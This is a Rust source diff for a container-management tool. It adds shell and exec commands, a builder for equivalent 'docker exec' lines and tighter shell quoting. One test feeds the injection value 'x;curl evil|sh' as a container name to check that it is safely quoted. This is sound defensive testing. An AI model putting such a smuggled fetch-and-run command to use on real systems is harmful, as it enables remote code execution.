@@ -171,6 +171,11 @@ pub enum Command {
         /// Its anonymous volumes too.
         volumes: bool,
     },
+    /// Run the first of some shells that a container has, each a program with its words, and give
+    /// it the terminal.
+    Shell(Id, Vec<Vec<String>>),
+    /// Run a command in a container.
+    Exec(Exec),
     /// The stopped containers with the bytes of their writable layers. Changes nothing.
     PrunePreview,
     /// Log lines older than those held: a page of `count` before `before` (nanoseconds since the
@@ -187,7 +192,93 @@ pub enum Command {
     },
 }
 
+/// A command to be run in a running container.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Exec {
+    /// The container.
+    pub id: Id,
+    /// The program and its words.
+    pub command: Vec<String>,
+    /// `user`, `uid`, either with `:group`; empty: the container's own.
+    pub user: String,
+    /// Where it runs; empty: the container's own working directory.
+    pub directory: String,
+    /// `NAME=value`, beside the container's own.
+    pub env: Vec<String>,
+    /// Whether it gets the terminal; without it, its output comes as [`Notice::Output`].
+    pub tty: bool,
+    /// Whether it may do everything to the host's kernel.
+    pub privileged: bool,
+}
+
+impl Exec {
+    /// The equal `docker exec …` line for a container of this name.
+    pub fn docker_line(&self, name: &str) -> String {
+        let mut words = vec!["docker".to_owned(), "exec".to_owned()];
+        let mut add = |flag: &str, value: &str| words.extend([flag.to_owned(), quoted(value)]);
+        for value in &self.env {
+            add("-e", value);
+        }
+        for (flag, value) in [("-u", &self.user), ("-w", &self.directory)] {
+            if !value.is_empty() {
+                add(flag, value);
+            }
+        }
+        let flags = [(self.tty, "-it"), (self.privileged, "--privileged")];
+        words.extend(
+            flags
+                .iter()
+                .filter(|(on, _)| *on)
+                .map(|(_, flag)| (*flag).to_owned()),
+        );
+        let rest = std::iter::once(name).chain(self.command.iter().map(String::as_str));
+        words.extend(rest.map(quoted));
+        words.join(" ")
+    }
+}
+
 impl Command {
+    /// The container that it is about; none when it is about all of a host.
+    pub fn target(&self) -> Option<&Id> {
+        match self {
+            Self::Start(id)
+            | Self::Stop(id, _)
+            | Self::Restart(id, _)
+            | Self::Pause(id)
+            | Self::Unpause(id)
+            | Self::Kill(id, _)
+            | Self::Rename(id, _)
+            | Self::Shell(id, _)
+            | Self::Remove { id, .. }
+            | Self::OlderLines { id, .. } => Some(id),
+            Self::Exec(exec) => Some(&exec.id),
+            Self::PrunePreview => None,
+        }
+    }
+
+    /// Whether it is to be given the terminal until it ends.
+    pub fn takes_terminal(&self) -> bool {
+        match self {
+            Self::Shell(..) => true,
+            Self::Exec(exec) => exec.tty,
+            Self::Start(_)
+            | Self::Stop(..)
+            | Self::Restart(..)
+            | Self::Pause(_)
+            | Self::Unpause(_)
+            | Self::Kill(..)
+            | Self::Rename(..)
+            | Self::Remove { .. }
+            | Self::PrunePreview
+            | Self::OlderLines { .. } => false,
+        }
+    }
+
+    /// Whether its output comes as [`Notice::Output`] while it is under way.
+    pub fn has_output(&self) -> bool {
+        matches!(self, Self::Exec(exec) if !exec.tty)
+    }
+
     /// Whether it changes anything: then it is refused under `--read-only`.
     pub fn changes(&self) -> bool {
         match self {
@@ -198,7 +289,9 @@ impl Command {
             | Self::Unpause(_)
             | Self::Kill(..)
             | Self::Rename(..)
-            | Self::Remove { .. } => true,
+            | Self::Remove { .. }
+            | Self::Shell(..)
+            | Self::Exec(_) => true,
             Self::PrunePreview | Self::OlderLines { .. } => false,
         }
     }
@@ -219,6 +312,16 @@ impl Command {
                 let volumes = if *volumes { " -v" } else { "" };
                 (format!("rm{force}{volumes}"), None)
             }
+            Self::Shell(_, shells) => {
+                let shell = shells.first().map(|words| words.iter().map(String::as_str));
+                let name = names.first().copied().unwrap_or_default();
+                let words = ["docker", "exec", "-it", name].into_iter();
+                let words = words.chain(shell.into_iter().flatten()).map(quoted);
+                return words.collect::<Vec<_>>().join(" ");
+            }
+            Self::Exec(exec) => {
+                return exec.docker_line(names.first().copied().unwrap_or_default());
+            }
             Self::PrunePreview => return "docker ps -as -f status=exited".to_owned(),
             Self::OlderLines { held, count, .. } => (format!("logs -n {}", held + count), None),
         };
@@ -230,8 +333,10 @@ impl Command {
 
 /// A word as a shell takes it.
 pub fn quoted(word: &str) -> String {
-    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-' | '/' | ':');
-    if !word.is_empty() && word.chars().all(plain) {
+    let plain =
+        |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-' | '/' | ':' | '=');
+    // a `=` at the beginning means something to some shells
+    if !word.is_empty() && !word.starts_with('=') && word.chars().all(plain) {
         word.to_owned()
     } else {
         format!("'{}'", word.replace('\'', r"'\''"))
@@ -249,9 +354,18 @@ pub enum Reply {
     Prunable(Vec<(Id, u64)>),
     /// Older log lines, oldest first; none when there are no older ones.
     Lines(Vec<LogPage>),
+    /// What ran in a container ended.
+    Exited {
+        /// What ran.
+        command: Vec<String>,
+        /// Its exit code.
+        code: i64,
+    },
+    /// What runs in a container was left: it runs on, without the terminal.
+    Detached,
 }
 
-/// A chunk of older lines.
+/// A chunk of lines, compared by identity.
 #[derive(Clone, Debug)]
 pub struct LogPage(pub Arc<Chunk>);
 
@@ -275,6 +389,8 @@ pub enum Notice {
         /// What it came to.
         result: Result<Reply, Problem>,
     },
+    /// What a job's command wrote, in order.
+    Output(JobId, LogPage),
 }
 
 #[cfg(test)]
@@ -297,13 +413,24 @@ mod tests {
             ),
             (
                 Command::Remove {
-                    id,
+                    id: id.clone(),
                     force: true,
                     volumes: true,
                 },
                 "docker rm -f -v web",
             ),
         ];
+        let exec = Exec {
+            id: id.clone(),
+            command: ["sh", "-c", "echo $A"].map(str::to_owned).to_vec(),
+            user: "1000".into(),
+            directory: "/srv".into(),
+            env: vec!["A=b c".into()],
+            tty: true,
+            privileged: true,
+        };
+        let line = "docker exec -e 'A=b c' -u 1000 -w /srv -it --privileged web sh -c 'echo $A'";
+        assert_eq!(Command::Exec(exec).docker_line(&["web"]), line);
         let hostile = Command::Pause(Id::new("x")).docker_line(&["x;curl evil|sh"]);
         assert_eq!(hostile, "docker pause 'x;curl evil|sh'");
         for (command, line) in cases {
